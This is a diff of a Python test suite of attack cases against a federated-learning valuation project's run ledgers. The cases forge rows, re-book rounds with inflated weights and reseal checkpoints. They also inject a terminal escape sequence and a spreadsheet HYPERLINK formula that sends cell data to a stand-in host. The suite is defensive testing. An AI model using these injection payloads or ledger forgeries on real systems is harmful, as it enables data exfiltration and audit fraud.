@@ -5,14 +5,13 @@ that module for what an attack is)."""
 from __future__ import annotations
 
 import csv
-import dataclasses
 import io
 import json
 import os
 
-from tests.hostile.run_dirs.attacks import NO_KEY, WITH_KEY, Action, Case, _config, _forge_tables, _lines, \
-    _resumable, _resume, _seal_checkpoint_digests, _write_config, attack
-from tests.fedvalue.forgery import rebook_last_round, rechain, reseal
+from tests.hostile.run_dirs.attacks import LEDGER_TOTALS, NO_KEY, WITH_KEY, Action, Case, _config, _forge_tables, \
+    _lines, _resumable, _resume, _seal_checkpoint_digests, _write_config, attack, in_checkout
+from tests.fedvalue.forgery import rechain, reseal
 
 
 # --------------------------------------------------------------------------- duplicates
@@ -34,19 +33,13 @@ def duplicate_rows_move_value(case: Case) -> list[Action]:
     for index, line in sorted(extra, reverse=True):
         lines.insert(index, line)
     (case.run / "ledger.csv").write_text("".join(lines))
-    _forge_tables(case.run)
+    _forge_tables(case)
     moved = lines[first].split(",")[1]
 
     def value_moved(case: Case, results: dict) -> str | None:
-        try:
-            from fedvalue.analysis.run_summary import load_run
-
-            summary = load_run(case.run).summary()
-        except Exception:  # noqa: BLE001 - refused: nothing moved
-            return None
+        now = json.loads(in_checkout(case, LEDGER_TOTALS, str(case.run)))  # the reader's load_run; refused: nothing
         original = results.get("original_totals", {})
-        if moved in summary.index and moved in original and abs(summary.loc[moved, "total_ads"]
-                                                                - original[moved]) > 0.2:
+        if moved in now and moved in original and abs(now[moved] - original[moved]) > 0.2:
             return f"load_run pays client {moved} a forged +0.25"
         return None
 
@@ -90,7 +83,10 @@ def deeply_nested_seal_on_resume(case: Case) -> list[Action]:
 RACE = r"""
 import os, sys, threading, time
 from pathlib import Path
-from fedvalue.run import rundir
+try:
+    from fedvalue.run import rundir
+except ImportError:  # the version before fedvalue.run
+    from fedvalue import rundir
 run, outside = Path(sys.argv[1]), Path(sys.argv[2])
 (run / "sub").mkdir(); (run / "sub" / "data.txt").write_text("INSIDE")
 outside = outside.parent / "race-outside"; outside.mkdir()
@@ -144,14 +140,18 @@ def client_id_with_escape_sequences(case: Case) -> list[Action]:
     client = lines[1].split(",")[1]
     lines = [line.replace(f",{client},", ",\x1b]0;owned\x07\x1b[31mEVIL\x1b[0m,", 1) for line in lines]
     (case.run / "ledger.csv").write_text("".join(lines))
-    _forge_tables(case.run)
+    _forge_tables(case)
     return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]
 
 
 WRITER = r"""
 import sys
-from fedvalue.run.ledger_tables import LedgerWriter
-from fedvalue.schema import LedgerRow, RoundRow
+try:
+    from fedvalue.run.ledger_tables import LedgerWriter
+    from fedvalue.schema import LedgerRow, RoundRow
+except ImportError:  # the version before fedvalue.run and its typed rows: the writer takes mappings
+    from fedvalue.ledger import LedgerWriter
+    LedgerRow = RoundRow = dict
 writer = LedgerWriter(sys.argv[1], config={"seed": 0})
 row = LedgerRow(round=1, client_id=3, method="ads", value=None, stderr=None, num_examples=None, status="failed",
                 noisy=False, reason='=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J')
@@ -226,7 +226,7 @@ def _relabel_client(case: Case, new: str) -> None:
     client = lines[1].split(",")[1]
     lines = [line.replace(f",{client},", f",{new},") for line in lines]
     (case.run / "ledger.csv").write_text("".join(lines))
-    _forge_tables(case.run)
+    _forge_tables(case)
 
 
 def _report_broken(case: Case, results: dict) -> str | None:
@@ -263,21 +263,55 @@ def training_settings_changed_in_run_json(case: Case) -> list[Action]:
     return case.audits()
 
 
+#: The last round's first client claimed 10x its examples and the round re-booked by the version's own recompute:
+#: tests.fedvalue.forgery's rebook_last_round here; in a version before fedvalue.run (records holding weights by
+#: client, no typed rows) the same steps with that version's functions.
+REBOOK = """import csv, dataclasses, json, sys
+from pathlib import Path
+try:
+    from fedvalue.run.archive import read_round_record, record_path
+    older = False
+except ImportError:
+    from fedvalue.archive import read_round_record, record_path, save_npz, write_round_record
+    older = True
+run = Path(sys.argv[1])
+config = json.loads((run / "run.json").read_text())
+last = config["rounds"]
+record = read_round_record(record_path(run, last))
+client = next(iter(record.replies))
+if not older:
+    from simulations.experiments.noisy_clients.noisy_clients import utility_from_run
+    from tests.fedvalue.forgery import rebook_last_round
+    record.entries = [dataclasses.replace(e, weight=e.weight * 10, num_examples=int(e.weight * 10))
+                      if e.client_id == client else e for e in record.entries]
+    rebook_last_round(run, record, utility_from_run(config), config["noisy_clients"])
+else:
+    from fedvalue.audit_recompute import recompute_books
+    from fedvalue.ledger import csv_lines
+    from fedvalue.schema import LEDGER_COLUMNS, ROUND_COLUMNS
+    from simulations.noisy_clients import utility_from_run
+    record.weights[client] *= 10
+    write_round_record(run, record)
+    noisy = {c for c in record.statuses if c in set(config["noisy_clients"])}
+    books, realized, _, _ = recompute_books(record, utility_from_run(config), noisy)
+    lines = (run / "ledger.csv").read_text().splitlines(keepends=True)
+    kept = [line for line in lines if not line.startswith(f"{last},")]
+    (run / "ledger.csv").write_text("".join(kept + csv_lines(LEDGER_COLUMNS, books.ledger_rows)))
+    with open(run / "rounds.csv", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    rows[-1] = {**books.round_row, "valuation_seconds": rows[-1]["valuation_seconds"]}
+    (run / "rounds.csv").write_text(",".join(ROUND_COLUMNS) + "\\n" + "".join(csv_lines(ROUND_COLUMNS, rows)))
+    save_npz(next(p for p in sorted((run / "checkpoint").iterdir())
+                  if p.name.endswith(".npz") and not p.name.endswith("-state.npz")), realized)
+"""
+
+
 @attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
 def weight_times_ten_rebooked(case: Case) -> list[Action]:
     """The last round's first client claims 10× its examples; the round is re-booked with the
     project's own recompute, the checkpoint's state moved to the new mean, all resealed."""
-    from fedvalue.run.archive import read_round_record, record_path
-    from simulations.experiments.noisy_clients.noisy_clients import utility_from_run
-
-    config = _config(case.run)
-    last = config["rounds"]
-    record = read_round_record(record_path(case.run, last))
-    client = next(iter(record.replies))
-    record.entries = [dataclasses.replace(e, weight=e.weight * 10, num_examples=int(e.weight * 10))
-                      if e.client_id == client else e for e in record.entries]
-    rebook_last_round(case.run, record, utility_from_run(config), config["noisy_clients"])
-    _forge_tables(case.run)
+    in_checkout(case, REBOOK, str(case.run))
+    _forge_tables(case)
     _seal_checkpoint_digests(case.run)
     reseal(case.run)
     return case.audits()
@@ -292,7 +326,7 @@ def claim_rows_in_a_run_without_review(case: Case) -> list[Action]:
     cells[-1] = "above the registered size 40"
     lines.insert(index + 1, ",".join(cells) + "\n")
     (case.run / "ledger.csv").write_text("".join(lines))
-    _forge_tables(case.run)
+    _forge_tables(case)
     return case.audits()
 
 
